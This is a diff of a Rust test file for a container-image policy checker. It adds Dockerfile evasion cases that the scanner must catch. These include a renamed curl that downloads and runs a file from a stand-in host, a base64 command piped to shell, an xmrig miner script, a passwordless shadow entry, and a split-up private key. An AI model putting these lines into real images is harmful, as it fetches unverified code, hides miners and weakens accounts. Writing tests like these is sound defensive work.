@@ -70,11 +70,21 @@ const EVASIONS: &[(&str, &str, &str)] = &[
         "download-executed-unverified",
         "RUN true || (cp /usr/bin/curl /c; /c -o /x http://example.com/x)\nRUN true || sh /x\n",
     ),
+    (
+        "the same, in another step",
+        "download-executed-unverified",
+        "RUN true || ln -s $(which curl) /c\nRUN true || (/c -o /x http://example.com/x; sh /x)\n",
+    ),
+    (
+        "a tool of the network by another name in the image",
+        "network-tool-present",
+        "COPY --from=tools /usr/bin/curl /opt/c\n",
+    ),
     ("a program that is encoded", "obfuscated-command", "RUN echo dHJ1ZQo= | base64 -d | sh\n"),
     (
         "a secret put together from parts",
         "secret-token-in-layer",
-        "RUN A=AKIA; B=IOSFODNN7EXAMPLE; echo $A$B > /key\n",
+        "RUN A=AKIA; B=Q3EGRT7ZUWLKBHXA; echo $A$B > /key\n",
     ),
     ("a loader by the environment", "loader-env", "ENV LD_AUDIT=/x.so\n"),
     (
@@ -87,16 +97,21 @@ const EVASIONS: &[(&str, &str, &str)] = &[
     (
         "a miner that a later layer removes",
         "miner-indicator",
-        "RUN echo stratum+tcp://pool.example.com:3333 > /x\nRUN rm /x\n",
+        "RUN printf '#!/bin/sh\\nxmrig -o stratum+tcp://pool.example.com:3333\\n' > /x\nRUN rm /x\n",
+    ),
+    (
+        "a program that a later layer removes",
+        "hidden-layer-executable",
+        "RUN printf '#!/bin/sh\\ntrue\\n' > /x && chmod +x /x\nRUN rm /x\n",
+    ),
+    ("a key that a later layer removes", "secret-file-in-layer", "COPY key /key\nRUN rm /key\n"),
+    (
+        "an account without a password",
+        "account-empty-password",
+        "RUN mkdir -p /etc && echo 'x::19000:0:99999:7:::' > /etc/shadow\n",
     ),
     ("a group of root", "user-privileged-group", "USER 10001:0\n"),
 ];
-
-/// Rules of the table that are still to be written: their attacks succeed today.
-const WAITS_FOR_RULE: &[&str] = &["miner-indicator", "secret-token-in-layer"];
-
-/// Attacks of the table that their rule does not see: they succeed today.
-const UNSEEN: &[&str] = &["curl by another name", "a program below /dev"];
 
 /// The ids of all rules that the program has.
 fn catalogue(ground: &Ground) -> BTreeSet<String> {
@@ -111,26 +126,23 @@ fn attack_95_ways_around_the_policy() {
     // The policy judges the same in every mode; the images are of one.
     let ground = ground();
     ground.place().file("ctx/file", "#!/bin/sh\ntrue\n");
+    // Put together here, so that scanners of this repository stay calm.
+    let key = ["-----BEGIN RSA PRIVATE", " KEY-----\nMIIEowIBAAKCAQEAvx7ZQ3EGRT7ZUWLK\n"].concat();
+    ground.place().file("ctx/key", &key);
     let rules = catalogue(&ground);
     assert!(rules.contains("final-user-root"), "{rules:?}");
-    for rule in WAITS_FOR_RULE {
-        assert!(!rules.contains(*rule), "`{rule}` is here: take it off the list");
-        assert!(EVASIONS.iter().any(|(_, wanted, _)| wanted == rule), "{rule}");
-    }
-    for (name, rule, lines) in EVASIONS.iter().filter(|(_, rule, _)| !WAITS_FOR_RULE.contains(rule))
-    {
+    for (name, rule, lines) in EVASIONS {
+        assert!(rules.contains(*rule), "{rule}");
         let user = if lines.contains("USER") { "" } else { "USER 10001\n" };
+        // A stage that is used: of a single one, the layers are squashed.
         let text = format!(
-            "FROM busybox AS build\nRUN true\nFROM busybox\n{lines}{user}HEALTHCHECK NONE\n"
+            "FROM busybox AS tools\n\
+             RUN mkdir -p /usr/bin && printf '#!/bin/sh\\nfetch\\n' > /usr/bin/curl && chmod +x /usr/bin/curl && touch /used\n\
+             FROM busybox\nCOPY --from=tools /used /used\n{lines}{user}HEALTHCHECK NONE\n"
         );
         // This rule alone, at its level of `hardened` or higher.
         let set = format!("--set=rules.{rule}=error");
         let outcome = ground.build(&text).policy("hardened").arg(set).run();
-        if UNSEEN.contains(name) {
-            assert!(!outcome.err().contains(rule), "`{name}` is seen: take it off the list");
-            std::fs::remove_dir_all(ground.place().at("image.oci")).expect("it was built");
-            continue;
-        }
         assert_eq!(outcome.done.code(), 1, "{name}\n{}", outcome.story());
         outcome.refused(&[rule]);
     }
